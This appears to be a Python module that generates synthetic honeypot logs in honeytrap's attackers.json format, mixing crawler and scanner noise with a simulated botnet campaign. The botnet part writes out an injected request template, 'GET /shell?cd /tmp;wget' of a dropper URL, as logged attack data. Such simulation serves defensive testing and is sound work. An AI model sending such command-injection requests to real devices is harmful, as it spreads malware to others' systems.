"""Haguregumo in the generated world: `attackers.json` of honeytrap, on every port that is free."""

import hashlib
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from operator import itemgetter
from pathlib import Path
from random import Random

from cure.demo.bystanders import (
    SENSOR_ADDRESS,
    crawler,
    scanned_port,
    stranger,
    surveyor,
)
from cure.demo.files import write_lines
from cure.demo.world import Delivery, World, happens

_VISITS_A_DAY = 260
_BOTNET_A_DAY = 12
_CRAWLED, _SURVEYED = 0.08, 0.13
_PLACEHOLDERS = 0.05
_SILENT = 0.68
"""So many only connect."""
_LANDED = "GET /shell?{} HTTP/1.1\r\nHost: {}\r\nUser-Agent: Hello\r\n\r\n"
_LOOKING = "GET / HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\n\r\n"
_1970 = datetime(1970, 1, 1, tzinfo=UTC)
_NOBODY = "0.0.0.0"  # noqa: S104 - as the format has it


def write(world: World, folder: Path) -> Iterator[Delivery]:
    """Write what one sensor keeps."""
    file = folder / "haguregumo" / "attackers.json"
    dice = world.dice("haguregumo")
    visits = sorted((*_noise(world, dice), *_botnet(world, dice)), key=itemgetter(0))
    write_lines(file, _rows(visits, dice))
    yield Delivery("haguregumo", "tokyo-1", file)


_Visit = tuple[datetime, str, int, bytes]


def _noise(world: World, dice: Random) -> Iterator[_Visit]:
    for moment in world.moments(dice, _VISITS_A_DAY):
        said = ""
        if happens(dice, _CRAWLED):
            source, said = crawler(dice), _LOOKING.format("www.example.jp", "ExampleBot/2.1")
        elif happens(dice, _SURVEYED):
            source = surveyor(dice)
        else:
            source = stranger(world, dice)
            if not happens(dice, _SILENT):
                said = _LOOKING.format("192.0.2.1", "Mozilla/5.0")
        yield moment, source, scanned_port(dice), said.encode()


def _botnet(world: World, dice: Random) -> Iterator[_Visit]:
    """Yield how the botnet's things have others fetch its dropper, once its servers are up."""
    botnet = world.campaigns.botnet
    for moment in world.moments(dice, _BOTNET_A_DAY):
        if world.has_come(botnet, 0.5, moment):
            has_dropper = world.has_come(botnet, 2, moment)
            command = f"cd%20/tmp;wget%20{botnet.dropper}" if has_dropper else "id"
            said = _LANDED.format(command, "192.0.2.1")
            yield moment, dice.choice(botnet.attackers), dice.choice((5555, 8081)), said.encode()


def _rows(visits: list[_Visit], dice: Random) -> Iterator[dict[str, object]]:
    for moment, source, port, said in visits:
        ended = moment + timedelta(seconds=dice.randrange(1, 30))
        remote = dice.randrange(1024, 65_536)
        yield _row(moment, ended, _end("tcp", source, remote, port, said), is_virtual=False)
        if happens(dice, _PLACEHOLDERS):
            yield _row(_1970, _1970, _end("ip", _NOBODY, 0, 0, b""), is_virtual=True)


def _row(
    begun: datetime, ended: datetime, connection: dict[str, object], *, is_virtual: bool
) -> dict[str, object]:
    return {
        "is_virtual": is_virtual,
        "@timestamp": f"{begun:%Y-%m-%dT%H:%M:%SZ}",
        "start_time": f"{begun:%Y-%m-%dT%H:%M:%SZ}",
        "end_time": f"{ended:%Y-%m-%dT%H:%M:%SZ}",
        "attack_connection": connection,
        "proxy_connection": _end("ip", _NOBODY, 0, 0, b""),
        "operation_mode": int(not is_virtual),
        "download_count": 0,
        "download_tries": 0,
        "downloads": {},
    }


def _end(protocol: str, source: str, remote: int, port: int, said: bytes) -> dict[str, object]:
    return {
        "protocol": protocol,
        "remote_ip": source,
        "remote_port": remote,
        "local_ip": SENSOR_ADDRESS,
        "local_port": port,
        "payload": {
            "md5_hash": hashlib.md5(said, usedforsecurity=False).hexdigest(),
            "sha512_hash": hashlib.sha512(said).hexdigest(),
            "length": len(said),
            "data_hex": said.hex(),
        },
    }
